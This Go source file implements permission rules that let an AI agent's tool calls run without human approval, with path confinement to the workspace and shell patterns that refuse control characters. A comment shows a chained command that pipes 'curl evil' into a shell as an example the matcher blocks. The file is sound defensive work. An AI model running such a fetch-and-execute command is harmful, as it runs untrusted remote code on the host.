package permissions

import (
	"fmt"
	"path"
	"strings"
	"unicode/utf8"
)

// Rule pre-approves calls under ask and approve (Policy.ApproveWhen): a call matching it
// runs without a human. A rule only ever widens what runs unasked, so a rule that is wrong
// in a way the policy cannot detect fails towards asking, never towards running.
//
// This inverts Nexo, whose approve_when/ask_when predicate selected the calls that DO need
// a human and let every other call through; a declarative list in that sense fails open
// (one narrow rule would auto-allow every other capability), so here the list names what is
// safe instead.
//
// Matching: Capability must equal the call's; Tool, when set, is a pattern over the call's
// tool name; Detail, when set, is a pattern over the call's detail. Both must match the
// whole string. Patterns know "*" and "?" (and "\" to escape), and what they may span
// depends on the capability:
//
//   - read, glob, write: the detail is a workspace path, cleaned first ("a/../b" is "b",
//     "/workspace/b" is "b"; a path that climbs above the workspace matches nothing); "*"
//     and "?" stay within one path segment, "**" spans segments, and "**/" may match no
//     directory ("docs/**" matches everything under docs, "**/*.md" every Markdown file);
//   - shell: the command, trimmed; "*" and "?" never match a shell control character
//     (; & | < > $ ` ( ) newline), so "go test *" matches "go test ./..." but not
//     "go test ./... && curl evil | sh" — the model cannot chain its way past a rule;
//   - fetch, search, mcp, and Tool patterns: "*" and "?" match any characters.
//
// A detail longer than 8192 characters matches no Detail pattern (it needs a human).
type Rule struct {
	// Capability the rule covers; required.
	Capability Capability `json:"capability" mapstructure:"capability" yaml:"capability"`
	// Tool is a pattern over the tool name (e.g. "github_*" for MCP); empty matches any.
	Tool string `json:"tool,omitempty" mapstructure:"tool" yaml:"tool"`
	// Detail is a pattern over the call's detail (e.g. "go test *", "docs/**"); empty
	// matches any.
	Detail string `json:"detail,omitempty" mapstructure:"detail" yaml:"detail"`
}

// maxMatchDetail bounds the detail a pattern is matched against, which bounds the
// matcher's work (O(len(pattern)·len(detail))).
const maxMatchDetail = 8192

// shellControl lists the characters a shell pattern's wildcards never match.
const shellControl = ";&|<>$`()\n\r\x00"

// Matches reports whether the rule covers c. A rule with an unknown capability or a
// malformed pattern matches nothing.
func (r Rule) Matches(c Call) bool {
	if r.Capability != c.Capability || !r.Capability.known() {
		return false
	}
	if r.Tool != "" && !wildcard(r.Tool, c.Tool, anyChar) {
		return false
	}
	if r.Detail == "" {
		return true
	}
	if utf8.RuneCountInString(c.Detail) > maxMatchDetail {
		return false
	}
	switch r.Capability {
	case CapRead, CapGlob, CapWrite:
		pat, ok := workspacePath(r.Detail)
		if !ok {
			return false
		}
		d, ok := workspacePath(c.Detail)
		return ok && wildcard(pat, d, pathChars)
	case CapShell:
		return wildcard(strings.TrimSpace(r.Detail), strings.TrimSpace(c.Detail), shellChars)
	default:
		return wildcard(r.Detail, c.Detail, anyChar)
	}
}

// String renders the rule for reasons: `shell "go test *"`, `mcp tool "github_*"`.
func (r Rule) String() string {
	s := string(r.Capability)
	if r.Tool != "" {
		s += fmt.Sprintf(" tool %q", r.Tool)
	}
	if r.Detail != "" {
		s += fmt.Sprintf(" %q", r.Detail)
	}
	return s
}

// validate names the first bad field of the rule (without the "approve_when[i]." prefix).
func (r Rule) validate() error {
	if r.Capability == "" {
		return fmt.Errorf("capability: %w: required", ErrInvalidPolicy)
	}
	if _, err := ParseCapability(string(r.Capability)); err != nil {
		return fmt.Errorf("capability: %w", err)
	}
	if strings.HasSuffix(strings.ReplaceAll(r.Tool, `\\`, ""), `\`) {
		return fmt.Errorf("tool: %w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, r.Tool)
	}
	if strings.HasSuffix(strings.ReplaceAll(r.Detail, `\\`, ""), `\`) {
		return fmt.Errorf("detail: %w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, r.Detail)
	}
	switch r.Capability {
	case CapRead, CapGlob, CapWrite:
		if r.Detail != "" {
			if c, ok := workspacePath(r.Detail); !ok || path.IsAbs(c) {
				return fmt.Errorf("detail: %w: path pattern %q must stay inside the workspace (relative, or under /workspace)", ErrInvalidPolicy, r.Detail)
			}
		}
	}
	return nil
}

// workspacePath cleans a path (or path pattern) the way the sandbox does: "/workspace/x" is
// "x", dot segments are resolved. ok is false for a path that climbs above the workspace,
// an empty one, or one with a NUL byte.
func workspacePath(p string) (string, bool) {
	if p == "" || strings.IndexByte(p, 0) >= 0 {
		return "", false
	}
	if p == "/workspace" || strings.HasPrefix(p, "/workspace/") {
		p = "./" + strings.TrimPrefix(p, "/workspace")
	}
	c := path.Clean(p)
	if c == ".." || strings.HasPrefix(c, "../") {
		return "", false
	}
	return c, true
}

// charClass says which characters a wildcard may match.
type charClass int

const (
	anyChar    charClass = iota // everything
	pathChars                   // "*" and "?" not "/", "**" everything
	shellChars                  // nothing in shellControl, for "*", "**" and "?"
)

func (k charClass) spans(r rune, double bool) bool {
	switch k {
	case pathChars:
		return double || r != '/'
	case shellChars:
		return !strings.ContainsRune(shellControl, r)
	}
	return true
}

// wildcard reports whether pattern matches all of s. Memoised over (pattern position,
// subject position), so it is O(len(pattern)·len(s)) however many stars the pattern has.
func wildcard(pattern, s string, k charClass) bool {
	p, t := []rune(pattern), []rune(s)
	width := len(t) + 1
	memo := make([]int8, (len(p)+1)*width) // 0 unknown, 1 match, 2 no match
	var m func(i, j int) bool
	m = func(i, j int) bool {
		key := i*width + j
		if memo[key] != 0 {
			return memo[key] == 1
		}
		ok := false
		switch {
		case i == len(p):
			ok = j == len(t)
		case p[i] == '*':
			double := i+1 < len(p) && p[i+1] == '*'
			next := i + 1
			if double {
				next = i + 2
			}
			// "**/" at the start of a segment may match no directory at all.
			zeroDirs := k == pathChars && double && next < len(p) && p[next] == '/' && (i == 0 || p[i-1] == '/')
			// Either the star matches nothing more, or it takes one more character and
			// stays at i: O(1) per state.
			ok = (zeroDirs && m(next+1, j)) || m(next, j) ||
				(j < len(t) && k.spans(t[j], double) && m(i, j+1))
		case p[i] == '?':
			ok = j < len(t) && k.spans(t[j], false) && m(i+1, j+1)
		case p[i] == '\\' && i+1 < len(p):
			ok = j < len(t) && t[j] == p[i+1] && m(i+2, j+1)
		default:
			ok = j < len(t) && t[j] == p[i] && m(i+1, j+1)
		}
		if ok {
			memo[key] = 1
		} else {
			memo[key] = 2
		}
		return ok
	}
	return m(0, 0)
}
